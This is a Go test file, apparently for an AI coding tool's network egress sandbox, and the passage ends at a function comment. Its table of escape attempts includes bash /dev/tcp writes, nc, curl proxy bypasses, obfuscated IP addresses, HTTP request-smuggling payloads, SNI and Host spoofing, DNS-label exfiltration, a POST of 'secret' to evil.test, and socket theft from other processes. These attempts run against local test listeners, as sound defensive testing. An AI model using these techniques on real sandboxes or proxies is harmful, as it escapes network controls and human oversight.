//go:build linux && (amd64 || arm64)

package egress_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/aycoder/aycoder/egress"
	"github.com/aycoder/aycoder/internal/timed"
	"github.com/aycoder/aycoder/tools"
	"github.com/aycoder/aycoder/workspace"
)

// A way is an attempt to reach what must not be reached: a script whose words in braces are
// replaced (see world.script).
type way struct {
	name, script string
	control      control
	needs        string // a program
	// maybe says that not every machine has what the attempt needs.
	maybe bool
	// reaches says that the attempt must succeed.
	reaches bool
}

// A control is how the same attempt reaches its aim, so that a failure is that of the wall.
type control int

const (
	outside control = iota // without a sandbox and without a proxy
	open                   // in the sandbox, by a proxy that permits everything
	effect                 // without a sandbox; the exit status says whether it worked
)

// ways are the attempts.
var ways = []way{
	// Sockets that know of no proxy.
	{name: "TCP", script: "{probe} dial tcp {tcp}"},
	{name: "TCP, not blocking", script: "{probe} nonblocking {tcp}"},
	{name: "TCP to another address of this machine", script: "{probe} dial tcp 127.0.0.2:{port}"},
	{name: "TCP to the unspecified address", script: "{probe} dial tcp 0.0.0.0:{port}"},
	{name: "TCP to the address of an interface", script: "{probe} dial tcp {interface}:{port}", maybe: true},
	{name: "TCP over IPv6", script: "{probe} dial tcp [::1]:{port}", maybe: true},
	{name: "TCP to the unspecified address of IPv6", script: "{probe} dial tcp [::]:{port}", maybe: true},
	{name: "TCP to an IPv4 address within IPv6", script: "{probe} mapped [::ffff:127.0.0.1]:{port}", maybe: true},
	{name: "a family with other high bits", script: "{probe} 'high bits' {tcp}"},
	{name: "multipath TCP", script: "{probe} mptcp {tcp}", maybe: true},
	{name: "SCTP", script: "{probe} sctp {tcp}", maybe: true},
	{name: "TCP, connected by sending", script: "{probe} fastopen {tcp}"},
	{name: "TCP, connected by sending a message", script: "{probe} 'sendmsg fastopen' {tcp}"},
	{name: "TCP, connected by sending messages", script: "{probe} 'sendmmsg fastopen' {tcp}"},
	{name: "TCP, connected later", script: "{probe} 'fastopen connect' {tcp}"},
	{name: "an address that changes while it is checked", script: "{probe} race 127.0.0.1:3128 {tcp}"},
	{name: "the port of the proxy on another address", script: "{probe} dial tcp 127.0.0.2:3128"},
	{name: "another server at the address of the proxy", script: "{probe} dial tcp 127.0.0.1:3128", maybe: true},
	{name: "the connection to the proxy, connected again", script: "{probe} reconnect 127.0.0.1:3128 connect {tcp}", maybe: true},
	{name: "the connection to the proxy, sent from again", script: "{probe} reconnect 127.0.0.1:3128 send {tcp}", maybe: true},
	{name: "the connection to the proxy, listening", script: "{probe} reconnect 127.0.0.1:3128 listen", maybe: true},
	{name: "UDP", script: "{probe} dial udp {udp}"},
	{name: "UDP without connecting", script: "{probe} sendto {udp}"},
	{name: "UDP by a list of messages", script: "{probe} sendmmsg {udp}"},
	{name: "UDP over IPv6", script: "{probe} dial udp [::1]:{udpport}", maybe: true},
	{name: "UDP-Lite", script: "{probe} udplite {lite}", maybe: true},
	{name: "a name server by UDP", script: `printf '\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4test\0\0\1\0\1' >/dev/udp/127.0.0.1/{udpport}`},
	{name: "a name server by TCP", script: `printf '\0\35\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4test\0\0\1\0\1' >/dev/tcp/127.0.0.1/{port}`},
	{name: "a raw socket", script: "{probe} raw {udp}", maybe: true},
	{name: "a packet socket", script: "{probe} packet {udp}", control: effect, maybe: true},
	{name: "a vsock socket", script: "{probe} vsock", control: effect, maybe: true},
	{name: "events of the kernel", script: "{probe} uevents", control: effect},
	{name: "io_uring", script: "{probe} uring", control: effect, maybe: true},
	{name: "a UNIX socket", script: "{probe} dial unix {unix}"},
	{name: "a UNIX socket in the workspace", script: "{probe} dial unix {wsunix}"},
	{name: "an abstract UNIX socket", script: "{probe} dial unix @{unix}"},
	{name: "UNIX datagrams", script: "{probe} dial unixgram {unix}d"},
	{name: "UNIX datagrams by one of a pair", script: "{probe} pair {unix}d"},
	{name: "UNIX datagrams in the workspace by one of a pair", script: "{probe} pair {wsunix}d"},
	{name: "abstract UNIX datagrams by one of a pair", script: "{probe} pair @{unix}d"},
	{name: "to be connected to", script: "{probe} listen :0"},
	{name: "to be connected to without an address", script: "{probe} autobind"},

	// Other processes.
	{name: "a socket of the host", script: "{probe} steal {pid} {fd}", maybe: true},
	{name: "a pipe of the host", script: "{probe} pipe {pid} {pipe}", maybe: true},
	{name: "sockets that were inherited", script: "{probe} descriptor {tcp} 3>/dev/tcp/127.0.0.1/{port}"},
	{name: "the memory of the host", script: "{probe} memory {pid}", control: effect, maybe: true},
	{name: "tracing a process outside", script: "{probe} trace {victim}", control: effect, maybe: true},
	{name: "the network of the host", script: "{probe} namespace {pid} {tcp}", maybe: true},
	{name: "another network", script: "unshare -Un true", needs: "unshare", control: effect, maybe: true},
	{name: "variables removed", script: "env -i EGRESS_TEST_PROBE=1 {exe} dial tcp {tcp}"},

	// Programs that ignore the proxy, or are told another one.
	{name: "bash", script: "echo x >/dev/tcp/127.0.0.1/{port}"},
	{name: "bash by UDP", script: "echo x >/dev/udp/127.0.0.1/{udpport}"},
	{name: "curl without the proxy", script: "curl -sS --noproxy '*' http://{tcp}/", needs: "curl"},
	{name: "curl without variables", script: "env -i curl -sS http://{tcp}/", needs: "curl"},
	{name: "curl with an empty proxy", script: "curl -sS --proxy '' http://{tcp}/", needs: "curl"},
	{name: "curl with another proxy", script: "curl -sS --proxy http://{tcp} http://evil.test/", needs: "curl"},
	{name: "curl with a SOCKS proxy", script: "curl -sS --socks5-hostname {tcp} http://evil.test/", needs: "curl"},
	{name: "curl with an address for a name", script: "curl -sS --noproxy '*' --resolve allowed.test:{port}:127.0.0.1 http://allowed.test:{port}/", needs: "curl"},
	{name: "curl with NO_PROXY", script: "NO_PROXY='*' no_proxy='*' curl -sS http://{tcp}/", needs: "curl"},
	{name: "curl over a UNIX socket", script: "curl -sS --noproxy '*' --unix-socket {unix} http://allowed.test/", needs: "curl"},
	{name: "curl over an abstract socket", script: "curl -sS --noproxy '*' --abstract-unix-socket {unix} http://allowed.test/", needs: "curl"},
	{name: "curl by telnet", script: "echo x | curl -sS --noproxy '*' telnet://{tcp}", needs: "curl"},
	{name: "wget without the proxy", script: "wget -q -O- --tries=1 --no-proxy http://{tcp}/", needs: "wget"},
	{name: "git", script: "git ls-remote git://{tcp}/x", needs: "git"},
	{name: "git over http without the proxy", script: "git -c http.proxy= ls-remote http://{tcp}/x", needs: "git"},
	{name: "ssh", script: "ssh -F none -o BatchMode=yes -o ConnectTimeout=5 -p {port} 127.0.0.1 true", needs: "ssh"},
	{name: "openssl", script: "openssl s_client -connect {tcp} </dev/null", needs: "openssl"},
	{name: "nc", script: "echo x | nc -w 2 127.0.0.1 {port}", needs: "nc"},
	{name: "python", script: `/usr/bin/python3 -c 'import socket; socket.create_connection(("127.0.0.1", {port})).send(b"x")'`, needs: "/usr/bin/python3"},
	{name: "python without variables", script: `/usr/bin/python3 -c 'import urllib.request as u; u.build_opener(u.ProxyHandler({})).open("http://{tcp}/")'`, needs: "/usr/bin/python3"},
	{name: "perl", script: `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("{tcp}")->print("x")'`, needs: "perl"},
	{name: "node", script: `node -e 'require("net").connect({port}, "127.0.0.1").end("x")'`, needs: "node"},

	// Places that no rule allows, by the proxy.
	{name: "an unknown name", script: "{probe} proxy 'GET http://evil.test:{port}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n'", control: open},
	{name: "data in a name", script: "{probe} proxy 'GET http://c2VjcmV0.evil.test:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n'", control: open},
	{name: "an IPv4 address", script: "curl -sSf http://127.0.0.1:{port}/", needs: "curl"},
	{name: "an IPv4 address as a number", script: "curl -sSf http://2130706433:{port}/", needs: "curl"},
	{name: "an IPv4 address in hexadecimals", script: "curl -sSf http://0x7f000001:{port}/", needs: "curl"},
	{name: "an IPv4 address in octals", script: "curl -sSf http://0177.0.0.1:{port}/", needs: "curl"},
	{name: "an IPv4 address of one octal number", script: "curl -sSf http://017700000001:{port}/", needs: "curl"},
	{name: "an IPv4 address with two parts", script: "curl -sSf http://127.1:{port}/", needs: "curl"},
	{name: "an IPv4 address with a dot at the end", script: "curl -sSf http://127.0.0.1.:{port}/", needs: "curl", maybe: true},
	{name: "the address zero", script: "curl -sSf http://0:{port}/", needs: "curl"},
	{name: "an IPv6 address", script: "curl -sSf 'http://[::1]:{port}/'", needs: "curl", maybe: true},
	{name: "an IPv6 address of zeros", script: "curl -sSf 'http://[0:0:0:0:0:0:0:0]:{port}/'", needs: "curl", maybe: true},
	{name: "an IPv4 address within IPv6 as text", script: "curl -sSf 'http://[::ffff:7f00:1]:{port}/'", needs: "curl", maybe: true},
	{name: "localhost", script: "curl -sSf http://localhost:{port}/", needs: "curl"},
	{name: "an address by CONNECT", script: "{probe} proxy 'CONNECT {tcp} HTTP/1.1\r\nHost: {tcp}\r\n\r\n' 'x'", control: open},
	{name: "an unknown name by CONNECT", script: "{probe} proxy 'CONNECT evil.test:{port} HTTP/1.1\r\nHost: evil.test\r\n\r\n' 'x'", control: open},
	{name: "another port of an allowed host", script: "{probe} proxy 'CONNECT allowed.test:{port} HTTP/1.1\r\nHost: allowed.test\r\n\r\n' 'x'", control: open},
	{name: "another port by a plain request", script: "{probe} proxy 'GET http://allowed.test:{port}/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n'", control: open},
	{name: "a name that ends like an allowed one", script: "{probe} proxy 'GET http://xallowed.test:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n'", control: open},
	{name: "a name below an allowed one", script: "{probe} proxy 'GET http://x.allowed.test:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n'", control: open},
	{name: "a name that begins with an allowed one", script: "{probe} proxy 'GET http://allowed.test.evil.test:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n'", control: open},
	{name: "the end of a star", script: "{probe} proxy 'GET http://evilsub.test:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n'", control: open},
	{name: "an allowed name that leads inside", script: "{probe} proxy 'GET http://rebind.test:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n'", control: open},
	{name: "an allowed name that leads inside, by CONNECT", script: "{probe} proxy 'CONNECT rebind.test:{port} HTTP/1.1\r\nHost: x\r\n\r\n' 'x'", control: open},
	{name: "a redirect", script: "curl -sS -L http://allowed.test:{http}/redirect", needs: "curl", control: open},
	{name: "a redirect to a file and back", script: "{probe} proxy 'GET http://allowed.test:{http}/redirect HTTP/1.1\r\nHost: x\r\n\r\n' 'GET http://{tcp}/ HTTP/1.1\r\nHost: x\r\n\r\n'", control: open},
	{name: "a login in the address", script: "{probe} proxy 'GET http://allowed.test:{http}@{tcp}/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n'", control: open},
	{name: "a WebSocket", script: "{probe} proxy 'GET http://evil.test:{port}/ HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n'", control: open},
	{name: "a POST", script: "{probe} proxy 'POST http://evil.test:{port}/ HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 6\r\n\r\nsecret'", control: open},
	{name: "a request after one that was allowed", script: "{probe} proxy 'GET http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\n\r\n' 'GET http://evil.test:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n'", control: open},
	{name: "curl by SNI proxy", script: "curl -sS -k --connect-to allowed.test:443:evil.test:{port} https://allowed.test/", needs: "curl", control: open},

	// Names that lie.
	{name: "another host in the header", script: "{probe} dial tcp {http}; printf 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n' >/dev/tcp/127.0.0.1/{httpport}"},
	{name: "another host in the header, by the proxy", script: "{probe} proxy 'GET http://allowed.test:{http}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n' || printf 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n' >/dev/tcp/127.0.0.1/{httpport}"},
	{name: "another server in TLS", script: "{probe} tls allowed.test:{tls} evil.test 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'", control: open},
	{name: "no server in TLS", script: "{probe} tls allowed.test:{tls} '' 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'", control: open},
	{name: "an address in place of a server in TLS", script: "{probe} tls allowed.test:{tls} 127.0.0.1 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'", control: open},
	{name: "an encrypted server in TLS", script: "{probe} ech allowed.test:{tls} {ech}", control: open},
	{name: "an encrypted server in TLS, inspected", script: "{probe} ech inspect.test:{tls} {ech}", control: open},
	{name: "no TLS", script: "{probe} proxy 'CONNECT allowed.test:{http} HTTP/1.1\r\nHost: x\r\n\r\n' 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'", control: open},
	{name: "HTTP/2 without TLS", script: "{probe} proxy 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' || {outside}"},
	{name: "no TLS, inspected", script: "{probe} proxy 'CONNECT inspect.test:{http} HTTP/1.1\r\nHost: x\r\n\r\n' 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'", control: open},
	{name: "another host within TLS that is inspected", script: "{probe} tls inspect.test:{tls} inspect.test 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'", control: open},
	{name: "another host in the address within TLS that is inspected", script: "{probe} tls inspect.test:{tls} inspect.test 'GET http://evil.test/ HTTP/1.1\r\nHost: inspect.test:{tls}\r\n\r\n'", control: open},
	{name: "a second request in the body of the first", script: "{probe} proxy 'POST http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nContent-Length: 56\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'; {outside}"},
	{name: "a second request after two lengths", script: "{probe} proxy 'POST http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 56\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'; {outside}"},
	{name: "a second request after a strange encoding", script: "{probe} proxy 'POST http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'; {outside}"},
	{name: "a second request after a length with a sign", script: "{probe} proxy 'POST http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nContent-Length: +0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'; {outside}"},
	{name: "a second request after a length in hexadecimals", script: "{probe} proxy 'POST http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nContent-Length: 0x0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'; {outside}"},
	{name: "a second request after a folded length", script: "{probe} proxy 'POST http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nContent-Length:\r\n 0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'; {outside}"},
	{name: "a second request after two encodings", script: "{probe} proxy 'POST http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'; {outside}"},
	{name: "a second request after an encoding in two parts", script: "{probe} proxy 'POST http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'; {outside}"},
	{name: "a second request after a chunk that overflows", script: "{probe} proxy 'POST http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'; {outside}"},
	{name: "a second request in an extension of a chunk", script: "{probe} proxy 'POST http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n1;\nx\n0\n\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'; {outside}"},
	{name: "a second request in a trailer", script: "{probe} proxy 'POST http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTrailer: X\r\n\r\n0\r\nX: y\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'; {outside}"},
	{name: "a second request after a space before the colon", script: "{probe} proxy 'POST http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nContent-Length : 0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'; {outside}"},
	{name: "a second request in a header", script: "{probe} proxy 'GET http://allowed.test:{http}/ HTTP/1.1\r\nHost: x\r\nX: y\rGET /smuggled HTTP/1.1\rHost: allowed.test\r\n\r\n'; {outside}"},

	// Ways that are allowed.
	{name: "allowed", script: "{probe} proxy 'GET http://allowed.test:{http}/good HTTP/1.1\r\nHost: x\r\n\r\n'", control: open, reaches: true},
	{name: "allowed below a star", script: "{probe} proxy 'GET http://www.sub.test:{http}/good HTTP/1.1\r\nHost: x\r\n\r\n'", control: open, reaches: true},
	{name: "allowed in TLS", script: "{probe} tls ALLOWED.test.:{tls} Allowed.test 'GET /good HTTP/1.1\r\nHost: allowed.test:{tls}\r\n\r\n'", control: open, reaches: true},
	{name: "allowed in TLS that is inspected", script: "{probe} tls inspect.test:{tls} inspect.test 'GET /good HTTP/1.1\r\nHost: inspect.test:{tls}\r\n\r\n'", control: open, reaches: true},
	{name: "allowed, by curl", script: "curl -sSf http://allowed.test:{http}/good", needs: "curl", control: open, reaches: true},
	{name: "allowed, by curl in TLS", script: "curl -sSfk https://allowed.test:{tls}/good", needs: "curl", control: open, reaches: true},
	{name: "allowed, by wget", script: "wget -q -O- --tries=1 http://allowed.test:{http}/good", needs: "wget", control: open, reaches: true},
	{name: "allowed, by git", script: "git ls-remote http://allowed.test:{http}/good", needs: "git", control: open, reaches: true},
	{name: "allowed, by python", script: `/usr/bin/python3 -c 'import urllib.request as u; u.urlopen("http://allowed.test:{http}/good")'`, needs: "/usr/bin/python3", control: open, reaches: true},
	{name: "allowed, by a WebSocket", script: "{probe} proxy 'GET http://allowed.test:{http}/good HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n'", control: open, reaches: true},
	{name: "allowed, with an offer of HTTP/2", script: "{probe} proxy 'GET http://allowed.test:{http}/good HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n'", control: open, reaches: true},
}

// A world has what must not be reached, and counts what reaches it.
type world struct {
	dir, exe, unix string
	hits           atomic.Int64 // of what must not be reached
	good           atomic.Int64 // of what may be
	barriers       []func()     // wait until what came before was counted
	words          []string     // for scripts
	ws             *workspace.Workspace
	resolver       *net.Resolver
	known          map[string]bool // names that may be resolved

	mu   sync.Mutex
	cond *sync.Cond
	busy int // connections of the servers
}

func newWorld(t *testing.T) *world {
	w := &world{dir: t.TempDir(), known: map[string]bool{}}
	w.cond = sync.NewCond(&w.mu)
	exe, err := os.Executable()
	require.NoError(t, err)
	w.exe = exe
	dir := filepath.Join(w.dir, "ws")
	require.NoError(t, os.Mkdir(dir, 0o755))
	w.ws, err = workspace.Open(dir)
	require.NoError(t, err)
	t.Cleanup(func() { w.ws.Close() })

	tcp := w.stream(t, "tcp", ":0").(*net.TCPAddr).Port
	udp := w.datagrams(t, "udp", ":0").(*net.UDPAddr).Port
	w.unix = filepath.Join(w.dir, "s")
	for _, name := range []string{w.unix, "@" + w.unix, filepath.Join(dir, "s")} {
		w.stream(t, "unix", name)
	}
	w.datagrams(t, "unixgram", w.unix+"d")
	w.datagrams(t, "unixgram", filepath.Join(dir, "s")+"d")
	w.datagrams(t, "unixgram", "@"+w.unix+"d")
	w.stream(t, "tcp", "127.0.0.2:3128")
	if l, err := net.Listen("tcp", "127.0.0.1:3128"); err == nil { // else somebody is there
		l.Close()
		w.stream(t, "tcp", "127.0.0.1:3128")
	}
	plain := w.server(t, nil)
	config, key, err := echConfig("allowed.test")
	require.NoError(t, err)
	keys := []tls.EncryptedClientHelloKey{{Config: config, PrivateKey: key, SendAsRetry: true}}
	secure := w.server(t, &tls.Config{EncryptedClientHelloKeys: keys, GetConfigForClient: func(h *tls.ClientHelloInfo) (*tls.Config, error) {
		if name := strings.ToLower(h.ServerName); name != "allowed.test" && name != "inspect.test" {
			w.hits.Add(1)
		}
		return nil, nil
	}})
	w.resolver = w.names(t)

	victim := exec.Command("sleep", "600")
	require.NoError(t, victim.Start())
	t.Cleanup(func() { _ = victim.Process.Kill(); _ = victim.Wait() })
	conn, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", tcp))
	require.NoError(t, err)
	t.Cleanup(func() { conn.Close() })
	held, err := conn.(*net.TCPConn).File()
	require.NoError(t, err)
	t.Cleanup(func() { held.Close() })
	own := w.stolen(t)
	r, pipe, err := os.Pipe()
	require.NoError(t, err)
	t.Cleanup(func() { r.Close(); pipe.Close() })
	go w.count(r)
	w.barriers = append(w.barriers, func() { w.mark(pipe) })

	w.words = []string{
		"{probe}", "env EGRESS_TEST_PROBE=1 " + exe, "{exe}", exe,
		"{tcp}", fmt.Sprintf("127.0.0.1:%d", tcp), "{port}", strconv.Itoa(tcp),
		"{udp}", fmt.Sprintf("127.0.0.1:%d", udp), "{udpport}", strconv.Itoa(udp), "{lite}", w.lite(t),
		"{unix}", w.unix, "{wsunix}", filepath.Join(dir, "s"), "{interface}", address(),
		"{http}", strconv.Itoa(plain), "{httpport}", strconv.Itoa(plain), "{tls}", strconv.Itoa(secure),
		"{ech}", fmt.Sprintf("%04x%x", len(config), config),
		"{pid}", strconv.Itoa(os.Getpid()), "{fd}", strconv.Itoa(own), "{pipe}", strconv.Itoa(int(pipe.Fd())),
		"{victim}", strconv.Itoa(victim.Process.Pid),
		"{outside}", fmt.Sprintf(`printf 'GET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n' >/dev/tcp/127.0.0.1/%d`, plain),
	}
	return w
}

// address returns one of an interface of this machine that is not loopback.
func address() string {
	list, _ := net.InterfaceAddrs()
	for _, a := range list {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return n.IP.String()
		}
	}
	return "192.0.2.1"
}

const barrier = "barrier"

// stream listens, and counts connections.
func (w *world) stream(t *testing.T, network, address string) net.Addr {
	l, err := net.Listen(network, address)
	require.NoError(t, err)
	t.Cleanup(func() { l.Close() })
	passed := make(chan struct{})
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			w.hits.Add(1)
			go func() {
				defer conn.Close()
				buf := make([]byte, 4096)
				n, _ := conn.Read(buf)
				if string(buf[:n]) == barrier {
					w.hits.Add(-1)
					passed <- struct{}{}
					return
				}
				_, _ = io.WriteString(conn, "HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")
			}()
		}
	}()
	w.barriers = append(w.barriers, func() {
		addr := l.Addr()
		to := addr.String()
		if a, ok := addr.(*net.TCPAddr); ok && a.IP.IsUnspecified() {
			to = fmt.Sprintf("127.0.0.1:%d", a.Port)
		}
		conn, err := net.Dial(addr.Network(), to)
		if err == nil {
			_, _ = io.WriteString(conn, barrier)
			<-passed
			conn.Close()
		}
	})
	return l.Addr()
}

// datagrams listens, and counts what comes.
func (w *world) datagrams(t *testing.T, network, address string) net.Addr {
	conn, err := net.ListenPacket(network, address)
	require.NoError(t, err)
	t.Cleanup(func() { conn.Close() })
	return w.received(conn)
}

func (w *world) received(conn net.PacketConn) net.Addr {
	passed := make(chan struct{})
	go func() {
		buf := make([]byte, 4096)
		for {
			n, _, err := conn.ReadFrom(buf)
			if err != nil {
				return
			}
			if string(buf[:n]) == barrier {
				passed <- struct{}{}
				continue
			}
			w.hits.Add(1)
		}
	}()
	w.barriers = append(w.barriers, func() {
		addr := conn.LocalAddr()
		to := addr.String()
		if a, ok := addr.(*net.UDPAddr); ok {
			to = fmt.Sprintf("127.0.0.1:%d", a.Port)
		}
		if c, err := net.Dial(addr.Network(), to); err == nil {
			_, _ = io.WriteString(c, barrier)
			<-passed
			c.Close()
		}
	})
	return conn.LocalAddr()
}

// lite listens for UDP-Lite, where there is that.
func (w *world) lite(t *testing.T) string {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, unix.IPPROTO_UDPLITE)
	if err != nil {
		return "127.0.0.1:1"
	}
	require.NoError(t, unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}))
	name, err := unix.Getsockname(fd)
	require.NoError(t, err)
	f := os.NewFile(uintptr(fd), "lite")
	t.Cleanup(func() { f.Close() })
	go w.count(f)
	return fmt.Sprintf("127.0.0.1:%d", name.(*unix.SockaddrInet4).Port)
}

// count counts what is read.
func (w *world) count(r io.Reader) {
	buf := make([]byte, 4096)
	for {
		n, err := r.Read(buf)
		if err != nil {
			return
		}
		if !bytes.Contains(buf[:n], []byte(barrier)) {
			w.hits.Add(1)
			continue
		}
		if n > len(barrier) {
			w.hits.Add(1)
		}
		w.mu.Lock()
		w.busy--
		w.cond.Broadcast()
		w.mu.Unlock()
	}
}

// mark writes a barrier to what is counted, and waits for it.
func (w *world) mark(to io.Writer) {
	w.mu.Lock()
	w.busy++
	w.mu.Unlock()
	_, _ = io.WriteString(to, barrier)
	w.idle()
}

// idle waits until all connections of servers are closed.
func (w *world) idle() {
	w.mu.Lock()
	defer w.mu.Unlock()
	for w.busy > 0 {
		w.cond.Wait()
	}
}

// stolen is the number of a connected socket of this process.
func (w *world) stolen(t *testing.T) int {
	fds, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
	require.NoError(t, err)
	ours, theirs := os.NewFile(uintptr(fds[0]), "ours"), os.NewFile(uintptr(fds[1]), "theirs")
	t.Cleanup(func() { ours.Close(); theirs.Close() })
	go w.count(ours)
	w.barriers = append(w.barriers, func() { w.mark(theirs) })
	return fds[1]
}

// server serves what is allowed, and counts what must not be asked of it.
func (w *world) server(t *testing.T, config *tls.Config) int {
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		host, _, _ := strings.Cut(r.Host, ":")
		switch {
		case r.URL.Path == "/smuggled" || !w.known[host]:
			w.hits.Add(1)
		case strings.HasPrefix(r.URL.Path, "/good"):
			w.good.Add(1)
		case r.URL.Path == "/redirect":
			http.Redirect(rw, r, "http://"+w.script("{tcp}")+"/", http.StatusFound)
		}
	}))
	accepted := ""
	s.Config.ConnState = func(conn net.Conn, state http.ConnState) {
		w.mu.Lock()
		defer w.mu.Unlock()
		switch state {
		case http.StateNew:
			accepted = conn.RemoteAddr().String()
			w.busy++
			w.cond.Broadcast()
		case http.StateClosed, http.StateHijacked:
			w.busy--
			w.cond.Broadcast()
		}
	}
	s.Config.ErrorLog = quiet()
	if s.TLS = config; config != nil {
		s.StartTLS()
	} else {
		s.Start()
	}
	t.Cleanup(s.Close)
	w.barriers = append(w.barriers, func() { // connections are accepted in their order
		conn, err := net.Dial("tcp", s.Listener.Addr().String())
		if err != nil {
			return
		}
		defer conn.Close()
		w.mu.Lock()
		defer w.mu.Unlock()
		for accepted != conn.LocalAddr().String() {
			w.cond.Wait()
		}
	})
	return s.Listener.Addr().(*net.TCPAddr).Port
}

// names is a resolver for which every name is this machine. A look-up of a name that may not be
// resolved is a hit.
func (w *world) names(t *testing.T) *net.Resolver {
	for _, name := range []string{"allowed.test", "www.sub.test", "rebind.test", "inspect.test"} {
		w.known[name] = true
	}
	return resolver(t, func(name string) []string {
		if !w.known[name] {
			w.hits.Add(1)
		}
		return []string{"127.0.0.1"}
	})
}

func (w *world) script(s string) string { return strings.NewReplacer(w.words...).Replace(s) }

// reached waits until all was counted, and returns how much reached what must not be reached,
// and what may be.
func (w *world) reached() (hits, good int64) {
	w.idle()
	for _, pass := range w.barriers {
		pass()
	}
	w.idle()
	return w.hits.Swap(0), w.good.Swap(0)
}

// command is one that runs a script.
func (w *world) command(script string, out io.Writer) *exec.Cmd {
	cmd := exec.Command("bash", "-c", strings.NewReplacer("\r", `'$'\r''`, "\n", `'$'\n''`).Replace(w.script(script)))
	cmd.Dir = w.ws.Dir()
	cmd.Env = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + w.ws.Dir(), "GIT_CONFIG_GLOBAL=/dev/null"}
	cmd.Stdout, cmd.Stderr = out, out
	return cmd
}

// finish waits for a command. One that tells where it listens is connected to.
func (w *world) finish(cmd *exec.Cmd, in io.Closer, out *os.File, text *bytes.Buffer) error {
	defer in.Close()
	lines := bufio.NewScanner(out)
	for lines.Scan() {
		text.WriteString(lines.Text() + "\n")
		port, ok := strings.CutPrefix(lines.Text(), "listening ")
		if !ok {
			continue
		}
		if conn, err := net.Dial("tcp", "127.0.0.1:"+port); err == nil {
			if data, _ := io.ReadAll(conn); len(data) > 0 {
				w.hits.Add(1)
			}
			conn.Close()
		}
		in.Close()
	}
	return cmd.Wait()
}

// run runs a script, and returns what it printed and whether it succeeded.
